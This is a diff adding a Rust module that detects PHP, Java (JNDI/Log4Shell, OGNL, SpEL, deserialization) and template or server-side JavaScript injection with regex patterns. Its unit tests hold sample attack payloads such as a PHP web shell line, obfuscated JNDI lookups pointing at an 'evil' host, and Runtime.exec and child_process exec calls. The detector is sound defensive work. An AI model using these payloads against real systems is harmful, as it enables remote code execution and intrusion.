@@ -1,0 +1,214 @@
+//! Code injection into the application's own language: PHP (tags, stream wrappers,
+//! dangerous functions, serialized objects), Java (JNDI lookups as in Log4Shell, even
+//! when nested lookups spell them out, OGNL and SpEL, class-loader tampering, serialized
+//! objects), and template or server-side JavaScript expressions.
+
+use std::borrow::Cow;
+use std::sync::LazyLock;
+
+use regex::Regex;
+
+fn compile(patterns: &[(&str, &'static str)]) -> Vec<(Regex, &'static str)> {
+    patterns
+        .iter()
+        .map(|(p, why)| {
+            (
+                Regex::new(&format!("(?i){p}")).expect("valid pattern"),
+                *why,
+            )
+        })
+        .collect()
+}
+
+fn first_match(patterns: &[(Regex, &'static str)], value: &str) -> Option<String> {
+    patterns
+        .iter()
+        .find(|(re, _)| re.is_match(value))
+        .map(|(_, why)| (*why).to_string())
+}
+
+static PHP: LazyLock<Vec<(Regex, &'static str)>> = LazyLock::new(|| {
+    compile(&[
+        (r"<\?(?:php\b|=|\s)", "PHP open tag"),
+        (
+            r"\b(?:php://(?:input|filter|stdin|memory|temp|fd)|(?:phar|zip|expect|glob|zlib|rar|ogg|compress\.zlib|compress\.bzip2|ssh2\.\w+)://|data://)",
+            "PHP stream wrapper",
+        ),
+        (
+            r"\b(?:eval|assert|system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|base64_decode|gzinflate|gzuncompress|str_rot13|call_user_func(?:_array)?|create_function|file_get_contents|file_put_contents|readfile|highlight_file|show_source|phpinfo|preg_replace|include(?:_once)?|require(?:_once)?|move_uploaded_file|unserialize|fsockopen|curl_exec)\s*\(",
+            "PHP function call",
+        ),
+        (
+            r"\$_(?:get|post|cookie|request|server|files|env|session)\b|\$globals\b",
+            "PHP superglobal",
+        ),
+        (r#"\b[oc]:\d+:"[\w\\]+":\d+:\{"#, "serialized PHP object"),
+    ])
+});
+
+/// Why `value` injects PHP, if it does.
+pub fn php_injection(value: &str) -> Option<String> {
+    if !value.contains(['<', ':', '(', '$']) {
+        return None;
+    }
+    first_match(&PHP, value)
+}
+
+/// A nested lookup that evaluates to literal text: `${lower:j}`, `${::-n}`,
+/// `${env:NOPE:-d}`, `${date:'i'}`.
+static TRIVIAL_LOOKUP: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(
+        r"(?i)\$\{(?:(?:lower|upper)\s*:|[^${}:]*:[^${}:]*:-|::-|date\s*:\s*')([^${}']*)'?\}",
+    )
+    .expect("valid pattern")
+});
+
+static JAVA: LazyLock<Vec<(Regex, &'static str)>> = LazyLock::new(|| {
+    compile(&[
+        (r"\$\{\s*jndi\s*:", "JNDI lookup"),
+        (
+            r"\bjndi\s*:\s*(?:ldaps?|rmi|dns|iiop|corba|nds|nis|http)\b",
+            "JNDI lookup",
+        ),
+        (
+            r"\$\{\s*(?:env|sys|java|main|ctx|k8s|docker|spring|bundle|log4j|web|sd|marker|base64)\s*:",
+            "Log4j lookup",
+        ),
+        (
+            r"%\{\s*\(?\s*#|#_memberaccess|@ognl\.|#context\s*\[",
+            "OGNL expression",
+        ),
+        (
+            r"java\.lang\.(?:runtime|processbuilder|system|reflect|class\b)|\.getruntime\s*\(|new\s+java\.|javax\.script\.",
+            "Java runtime access",
+        ),
+        (
+            r"\bclass\.(?:module\.)?classloader\b",
+            "class loader tampering",
+        ),
+        (r"\bt\s*\(\s*java\.", "SpEL type reference"),
+        (
+            r"org\.apache\.commons\.collections|ysoserial|com\.sun\.rowset\.jdbcrowsetimpl|org\.springframework\.context\.support",
+            "deserialization gadget",
+        ),
+        (r"\baced0005", "serialized Java object (hex)"),
+    ])
+});
+
+/// Why `value` injects Java expressions or lookups, if it does.
+pub fn java_injection(value: &str) -> Option<String> {
+    // Serialized objects are base64 of `AC ED 00 05`: case matters.
+    if value.contains("rO0AB") {
+        return Some("serialized Java object (base64)".to_string());
+    }
+    if !value.contains(['$', '%', '#', '.', '(']) && !value.to_ascii_lowercase().contains("jndi") {
+        return None;
+    }
+    let mut current: Cow<'_, str> = Cow::Borrowed(value);
+    for _ in 0..8 {
+        if !current.contains("${") {
+            break;
+        }
+        let next = TRIVIAL_LOOKUP.replace_all(&current, "$1");
+        if next == current {
+            break;
+        }
+        current = Cow::Owned(next.into_owned());
+    }
+    first_match(&JAVA, &current)
+}
+
+static TEMPLATE: LazyLock<Vec<(Regex, &'static str)>> = LazyLock::new(|| {
+    compile(&[
+        (
+            r"\{\{[^}]*(?:__class__|__globals__|__builtins__|__import__|__subclasses__|__mro__|config\.|request\.application|self\._|lipsum|cycler|joiner|\d+\s*\*\s*\d+)[^}]*\}\}",
+            "template expression",
+        ),
+        (
+            r"\{%[^%]*\b(?:import|include|for|set|exec)\b[^%]*%\}",
+            "template statement",
+        ),
+        (
+            r"[$#]\{\s*\d+\s*[*+]\s*\d+\s*\}",
+            "arithmetic probe in an expression",
+        ),
+        (r"<%=?[^%]*%>", "server page scriptlet"),
+        (
+            r#"require\s*\(\s*['"]child_process['"]|process\.mainmodule|\bconstructor\s*\.\s*constructor\b|\bglobal\s*\.\s*process\b"#,
+            "server-side JavaScript",
+        ),
+        (
+            r"__proto__|constructor\s*\[\s*['\x22]prototype",
+            "prototype pollution",
+        ),
+        (
+            r"\b(?:__import__|subprocess\.|os\.(?:system|popen)\s*\()",
+            "Python code",
+        ),
+    ])
+});
+
+/// Why `value` injects a template or script expression, if it does.
+pub fn code_injection(value: &str) -> Option<String> {
+    if !value.contains(['{', '<', '(', '_', '.']) {
+        return None;
+    }
+    first_match(&TEMPLATE, value)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn php_payloads() {
+        for p in [
+            "<?php system($_GET['c']); ?>",
+            "php://filter/convert.base64-encode/resource=index.php",
+            "data://text/plain;base64,PD9waHA=",
+            "O:8:\"stdClass\":1:{s:1:\"a\";}",
+            "phpinfo()",
+        ] {
+            assert!(php_injection(p).is_some(), "missed {p}");
+        }
+        for v in ["price: $5", "the system works", "include me", "(a)"] {
+            assert_eq!(php_injection(v), None, "flagged {v}");
+        }
+    }
+
+    #[test]
+    fn java_payloads_including_obfuscated_jndi() {
+        for p in [
+            "${jndi:ldap://evil/a}",
+            "${${lower:j}${lower:n}di:ldap://evil/a}",
+            "${${::-j}${::-n}${::-d}${::-i}:rmi://evil/a}",
+            "${${env:NaN:-j}ndi${env:NaN:-:}ldap://evil/a}",
+            "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
+            "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
+            "rO0ABXNyABFqYXZh",
+            "T(java.lang.Runtime).getRuntime().exec('id')",
+        ] {
+            assert!(java_injection(p).is_some(), "missed {p}");
+        }
+        for v in ["${name}", "100%", "#hashtag", "java.com", "a.b.c"] {
+            assert_eq!(java_injection(v), None, "flagged {v}");
+        }
+    }
+
+    #[test]
+    fn template_and_script_payloads() {
+        for p in [
+            "{{7*7}}",
+            "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+            "${7*7}",
+            "<%= 7*7 %>",
+            "require('child_process').exec('id')",
+            "__proto__[admin]=1",
+        ] {
+            assert!(code_injection(p).is_some(), "missed {p}");
+        }
+        for v in ["{{name}}", "snake_case", "a.b"] {
+            assert_eq!(code_injection(v), None, "flagged {v}");
+        }
+    }
+}
